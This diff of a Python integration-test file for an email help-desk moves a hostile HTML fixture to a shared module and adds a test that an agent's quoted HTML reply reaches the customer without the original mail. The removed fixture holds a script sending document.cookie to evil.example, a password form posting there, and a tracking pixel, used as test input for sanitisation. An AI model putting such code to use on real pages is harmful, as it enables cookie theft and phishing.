@@ -11,24 +11,12 @@ from email.policy import SMTP
 
 import pytest
 
-from tests.integration.attachment_support import LOG, PNG, customer_mail, web_config
-from tests.integration.conversation_support import CUSTOMER, QUEUE_EXTRA, TEAM, make_desk, to
+from tests.integration.attachment_support import HOSTILE_HTML, LOG, PNG, customer_mail, web_config
+from tests.integration.conversation_support import AGENT, CUSTOMER, QUEUE_EXTRA, TEAM, make_desk, to
 from tests.support import SUPPORT_ADDRESS, make_mail
 
 # A second inline image the HTML does not show (a signature logo Outlook attaches without using).
 LOGO = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + os.urandom(500)
-
-HOSTILE_HTML = """<html><head><title>KC4</title><style>body { background: url(https://evil.example/bg.gif) }</style>
-<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
-<body onload="alert(1)">
-<p>Guten Tag,</p>
-<p style="color: red" onclick="alert(2)">die <b>KC4</b> meldet seit heute früh <i>Alarm&nbsp;17</i>, siehe Bild:</p>
-<p><img src="cid:screenshot1@kunde.example" alt="Bildschirm" width="320"></p>
-<img src="https://tracker.example/open.gif?u=juergen" width="1" height="1" alt="">
-<p>Handbuch: <a href="https://kunde.example/kc4.pdf" target="_blank">KC4</a></p>
-<form action="https://evil.example/login"><input name="password"></form>
-<p>Viele Grüße<br>Jürgen Müller</p>
-</body></html>"""
 
 
 def _desk(tmp_path, imap_server, smtp_sink, db_url, conversations=None):
@@ -209,5 +197,44 @@ def test_a_reply_shows_its_new_text_then_the_whole_html_below_a_separator(
         assert (
             "<p>Der Server <b>läuft</b> wieder.</p><blockquote>Wir haben Ihre Anfrage erhalten.</blockquote>" in whole
         )
+    finally:
+        desk.app.close()
+
+
+@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+def test_an_agent_replying_in_html_to_the_html_notification_relays_only_their_words(
+    tmp_path, imap_server, smtp_sink, db_url, imap_env
+):
+    """An HTML-only reply that quotes the whole HTML notification (as Outlook writes one): the
+    customer gets the agent's words, not the frame, the marker or their own mail back."""
+    desk = _desk(tmp_path, imap_server, smtp_sink, db_url)
+    try:
+        sent = desk.deliver(
+            customer_mail(
+                sender=CUSTOMER, to=SUPPORT_ADDRESS, subject="Alarm 17", files=[], inline_png=PNG, html=HOSTILE_HTML
+            )
+        )
+        (note,) = to(sent, TEAM)
+        quoted = _html(note).split("<body", 1)[1].split(">", 1)[1].rsplit("</body>", 1)[0]
+        nid = note.header("Message-ID")
+        sent = desk.deliver(
+            make_mail(
+                subject=f"AW: {note.header('Subject')}",
+                sender=AGENT,
+                html_only=True,
+                html=(
+                    "<html><body><p>Guten Tag Herr Müller,</p><p>bitte starten Sie die KC4 neu.</p>"
+                    "<p>Anna Agent</p><div style='border-top:solid #E1E1E1 1.0pt'><p><b>Von:</b> Vendor Support"
+                    f"<br><b>Gesendet:</b> Montag, 23. November 2026 09:00</p></div>{quoted}</body></html>"
+                ),
+                headers={"In-Reply-To": nid, "References": nid},
+            )
+        )
+        (relay,) = to(sent, CUSTOMER[1])
+        print(relay.text)
+        assert "bitte starten Sie die KC4 neu." in relay.text
+        for gone in ("Please type your reply", "meldet seit heute", "New case", "#severity", "Attachments"):
+            assert gone not in relay.text, gone
+        assert not [p for p in relay.msg.walk() if p.get_content_maintype() == "image"]
     finally:
         desk.app.close()
